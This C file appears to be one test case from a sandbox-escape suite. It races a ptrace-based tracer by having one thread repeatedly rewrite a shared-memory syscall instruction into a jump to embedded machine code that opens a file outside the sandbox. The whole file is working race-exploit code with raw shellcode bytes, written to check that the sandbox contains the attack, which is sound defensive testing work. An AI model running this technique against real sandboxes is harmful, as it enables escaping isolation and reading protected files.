/* SPDX-License-Identifier: LGPL-3.0-or-later */
/*
 * The tracer makes a tracee execute its `syscall` instruction once more. The instruction lies
 * in memory that another thread writes: it jumps to a call of the attacker's own instead.
 * ATTACK MAY DIE
 * ATTACK BROKEN: REENTRY
 */
#include "escape.h"

#if !defined(__x86_64__)
int main(void)
{
	skip("written for x86_64");
}
#else
static unsigned char *writable;
static volatile bool over;

/* at 0: syscall; ret. at 16: open(r12) and ret. */
static const unsigned char honest[] = { 0x0f, 0x05, 0xc3 };
static const unsigned char evil[] = {
	0xb8, 0x02, 0, 0, 0,       /* mov $2, %eax */
	0x4c, 0x89, 0xe7,          /* mov %r12, %rdi */
	0x31, 0xf6, 0x31, 0xd2,    /* xor %esi, %esi; xor %edx, %edx */
	0x0f, 0x05, 0xc3,
};

static void *swap_code(void *data)
{
	(void)data;
	while (!over) {
		*(volatile uint16_t *)writable = 0x0eeb; /* jmp +14 */
		linger(30);
		*(volatile uint16_t *)writable = 0x050f;
		linger(300);
	}
	return NULL;
}

static long call(void *code, long number, const char *path, const char *secret)
{
	register const char *r12 __asm__("r12") = secret;
	long result;

	__asm__ volatile("call *%1"
			 : "=a"(result)
			 : "r"(code), "a"(number), "D"(path), "S"(0), "d"(0), "r"(r12)
			 : "rcx", "r11", "memory", "cc");
	return result;
}

int main(void)
{
	int memory = memfd_create("code", 0);
	const char *secret = outside("secret");
	struct race race = { 0 };
	pthread_t thread;
	void *code;

	if (ftruncate(memory, 4096) < 0)
		broken("memfd");
	writable = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
	code = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, memory, 0);
	if (writable == MAP_FAILED || code == MAP_FAILED)
		broken("no shared code");
	memcpy(writable, honest, sizeof(honest));
	memcpy(writable + 16, evil, sizeof(evil));
	thread = start(swap_code, NULL);
	while (racing(&race)) {
		long result = call(code, SYS_chdir, "/tmp", secret);

		if (result > 0)
			refuse_secret((int)result, "code put in place of a syscall instruction");
	}
	over = true;
	pthread_join(thread, NULL);
	contained();
}
#endif
